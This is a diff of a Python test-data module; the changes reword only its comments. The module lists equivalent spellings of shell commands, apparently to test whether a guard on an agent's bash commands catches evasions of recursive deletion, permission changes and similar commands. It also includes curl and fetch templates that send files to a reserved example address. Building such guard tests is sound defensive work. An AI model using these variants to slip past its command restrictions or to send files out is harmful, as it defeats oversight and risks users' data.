@@ -1,7 +1,7 @@
-"""Tables of other spellings of a shell command: each does the same as the command, and a test proves it.
+"""Tables of other spellings of a shell command. Each has the same effect, and a test proves it.
 
-A row is a name and a template in which words in capitals stand for parts of the command. The shell is bash,
-which most agents start their commands with.
+A row is a name and a template, in which words in capitals are placeholders for parts of the command. The
+shell is bash, which most agents use.
 """
 
 from __future__ import annotations
@@ -9,7 +9,7 @@ from __future__ import annotations
 from collections.abc import Mapping
 
 # TEXT is the command, QUOTED the same as one word of a shell, SHOUTED with a `!` before it; LITERAL is a
-# string of Python, JavaScript or awk inside single quotes, PERL one of Perl, CODES a list of its bytes.
+# string of Python, JavaScript or awk inside single quotes, PERL a string of Perl, CODES a list of its bytes.
 WHOLE: Mapping[str, Mapping[str, str]] = {
     "another command beside it": {
         "after true &&": "true && TEXT",
@@ -140,7 +140,7 @@ WHOLE: Mapping[str, Mapping[str, str]] = {
     },
 }
 
-# NAME is the program, FIRST its first letter, OTHERS those that follow, REST what follows the program.
+# NAME is the program, FIRST its first letter, OTHERS the following letters, REST the words after it.
 PROGRAM: Mapping[str, Mapping[str, str]] = {
     "quoting": {
         "single quotes": "'NAME' REST",
@@ -198,7 +198,7 @@ PROGRAM: Mapping[str, Mapping[str, str]] = {
         "redirection of errors before": "2>/dev/null NAME REST",
     },
 }
-# The same for programs that are files, not built into the shell. PLACE is where it is, GLOBBED a pattern.
+# The same for programs that are files, not built into the shell. PLACE is the path, GLOBBED a pattern.
 FILE: Mapping[str, Mapping[str, str]] = {
     "another program in front": {
         "command": "command NAME REST",
@@ -248,7 +248,7 @@ FILE: Mapping[str, Mapping[str, str]] = {
         "setsid": "setsid -w NAME REST",
     },
 }
-# Programs that BusyBox has too (BusyBox 1.36, `busybox --list`), with options that it knows.
+# Programs that BusyBox also has (BusyBox 1.36, `busybox --list`), with options that it supports.
 APPLET: Mapping[str, Mapping[str, str]] = {
     "another program in front": {
         "busybox": "busybox NAME REST",
@@ -258,7 +258,7 @@ APPLET: Mapping[str, Mapping[str, str]] = {
 }
 APPLETS = ("rm", "cat", "chmod", "chown", "dd", "rmdir", "unlink", "truncate", "shred", "wget")
 # For one command of plain words. WORDS are all of them with blanks between, IFS_WORDS with ${IFS}, COMMAS
-# with commas; LAST is the last one, HALF and HALVED its halves, MOST those before it.
+# with commas; LAST is the last word, HALF and HALVED its halves, MOST the words before it.
 PLAIN: Mapping[str, Mapping[str, str]] = {
     "words": {
         "IFS between words": "IFS_WORDS",
@@ -311,7 +311,7 @@ PLAIN: Mapping[str, Mapping[str, str]] = {
         'require("child_process").spawnSync(a, b, {stdio: "inherit"})\'',
     },
 }
-# The same for programs whose last word is a file that is there.
+# The same for programs whose last word is an existing file.
 WITH_FILE: Mapping[str, Mapping[str, str]] = {
     "paths": {
         "./ before the path": "MOST ./LAST",
@@ -351,13 +351,13 @@ WITH_ROOT: Mapping[str, Mapping[str, str]] = {
         "path by a variable": "MOST ${x:-LAST}",
     },
 }
-# Other words for the home and the root, where one of these is the last word of a command.
+# Other words for the home and the root, as the last word of a command.
 PLACES: tuple[tuple[str, ...], ...] = (
     ("~", "~/", "$HOME", "${HOME}", '"$HOME"', "$HOME/", "~+/../${HOME##*/}", "$(echo ~)", "${HOME:-~}"),
     ("/", "//", "/.", "/./", "/..", "/usr/..", "'/'", "$(echo /)", "${x:-/}"),
 )
 FILE_PROGRAMS = ("rm", "chmod", "cat", "rmdir", "unlink", "chown", "truncate", "shred")
-# Options that have a long name, by program, as GNU and git know them.
+# Options with a long name, by program, of GNU and git.
 LONG: Mapping[str, Mapping[str, str]] = {
     "rm": {"r": "--recursive", "R": "--recursive", "f": "--force"},
     "chmod": {"R": "--recursive", "f": "--silent"},
@@ -366,14 +366,14 @@ LONG: Mapping[str, Mapping[str, str]] = {
     "git clean": {"f": "--force", "d": "-d", "x": "-x"},
     "git branch": {"D": "--delete --force"},
 }
-# The same cut short: GNU's getopt and git take any beginning that only one option has.
+# The same abbreviated: GNU's getopt and git accept any unique prefix.
 SHORTENED: Mapping[str, Mapping[str, str]] = {
     "rm": {"r": "--recur", "R": "--rec", "f": "--forc"},
     "chmod": {"R": "--recur", "f": "--sil"},
     "chown": {"R": "--recur"},
     "git clean": {"f": "--forc", "d": "-d", "x": "-x"},
 }
-# Options that change nothing of the effect.
+# Options that do not change the effect.
 BESIDE: Mapping[str, tuple[str, ...]] = {
     "rm": ("-v", "--verbose", "--preserve-root", "--interactive=never"),
     "chmod": ("-v", "-c"),
@@ -383,7 +383,7 @@ BESIDE: Mapping[str, tuple[str, ...]] = {
 }
 # Options that mean the same.
 ALSO: Mapping[str, Mapping[str, str]] = {"rm": {"r": "R", "R": "r"}}
-# Options of a program before the word that says what it is to do.
+# Options of a program before its sub-command.
 BEFORE: Mapping[str, tuple[str, ...]] = {
     "git": (
         *("-c core.x=1", "-C .", '-C "$PWD"', "--no-pager", "-p", "--literal-pathspecs"),
@@ -391,7 +391,7 @@ BEFORE: Mapping[str, tuple[str, ...]] = {
         '--git-dir="$(git rev-parse --git-dir)"',
     ),
 }
-# Who may not read a file may not send it either. The address is one that RFC 5737 keeps for documents.
+# A guard against reading a file must also stop sending it. RFC 5737 reserves the address for examples.
 SENT: Mapping[str, str] = {
     "curl -d": "curl -sd @IT http://192.0.2.1/x",
     "curl -F": "curl -sF x=@IT http://192.0.2.1/x",
@@ -408,7 +408,7 @@ SENT: Mapping[str, str] = {
     'fetch("http://192.0.2.1/x", {method: "POST", body: require("fs").readFileSync("IT")})\'',
 }
 SENDABLE = r"(?:cat|less|more|head|tail) (?P<it>[\w./-]+)"
-# What else has the same effect: a pattern of the command, and templates of what its groups are put into.
+# Other commands with the same effect: a pattern of the command, and templates for its groups.
 EFFECTS: tuple[tuple[str, Mapping[str, str]], ...] = (
     (
         r"rm (?=(?:-\S+ )*(?:-[a-zA-Z]*[rR]|--recursive))(?:-\S+ )+(?P<it>[\w./-]+)",
@@ -890,7 +890,7 @@ OPTIONAL = (
     *("od", "hexdump", "column", "expand", "fmt", "shuf", "iconv", "jq", "split", "bat", "rg", "funzip"),
     *("osascript", "openssl", "xxd", "base32", "rsync", "zip", "nc", "less", "strings", "shred"),
 )
-# The POSIX shell's and bash's own words, which no program stands before.
+# The POSIX shell's and bash's own words, which no program may precede.
 BUILT_IN = (
     *(".", ":", "[", "alias", "bg", "break", "builtin", "cd", "command", "continue", "declare", "echo"),
     *("eval", "exec", "exit", "export", "false", "fg", "getopts", "hash", "jobs", "kill", "let", "local"),
